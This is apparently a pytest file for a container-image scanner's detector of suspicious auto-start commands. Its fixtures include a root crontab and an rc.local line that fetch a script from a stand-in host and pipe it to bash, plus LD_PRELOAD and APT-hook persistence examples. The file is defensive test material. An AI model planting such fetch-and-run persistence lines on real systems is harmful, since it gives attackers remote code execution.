"""Suspicious commands that run by themselves."""

from __future__ import annotations

import pytest

from periderm.engines.image import run_example
from periderm.engines.image.detectors import odd_start
from periderm.engines.image.facts import GivenFile, GivenImage

CASES = [
    (
        GivenImage(
            layers=((GivenFile("etc/crontabs/root", b"*/5 * * * * wget -q -O- http://203.0.113.5/x | bash\n", 0o644),),)
        ),
        ["HIGH"],
        "Alpine",
    ),
    (
        GivenImage(layers=((GivenFile("etc/rc.local", b'bash -c "$(curl -fsSL http://203.0.113.5/x)"\n', 0o644),),)),
        ["HIGH"],
        "at the start",
    ),
    (
        GivenImage(layers=((GivenFile("etc/profile.d/a.sh", b"export LD_PRELOAD=/usr/lib/x.so\n", 0o644),),)),
        ["HIGH"],
        "at the login",
    ),
    (
        GivenImage(layers=((GivenFile("etc/apt/apt.conf.d/99x", b'APT::Update::Pre-Invoke {"/var/tmp/a";};', 0o644),),)),
        ["HIGH"],
        "when packages are installed",
    ),
    (GivenImage(layers=((GivenFile("etc/profile.d/a.sh", b"unset LD_PRELOAD\nexport TMP=/tmp\n", 0o644),),)), [], "a setting"),
    (GivenImage(layers=((GivenFile("etc/cron.d/a", b"* * * * * root test -x /tmp/a || true\n", 0o644),),)), [], "a look"),
    (
        GivenImage(layers=((GivenFile("etc/init.d/a", b"#!/bin/sh\nPIDFILE=/var/run/.a.pid\n", 0o755),),)),
        [],
        "a hidden file that is no program",
    ),
    (GivenImage(layers=((GivenFile("srv/cron.d/a", b"curl http://x | sh\n", 0o644),),)), [], "nothing that starts"),
]


@pytest.mark.parametrize(("given", "severities", "why"), CASES, ids=[why for _, _, why in CASES])
def test_variants(given: GivenImage, severities: list[str], why: str) -> None:
    """Each is graded by what it is, and what looks alike stays quiet."""
    assert [finding.severity.name for finding in run_example(odd_start.DETECTOR, given)] == severities
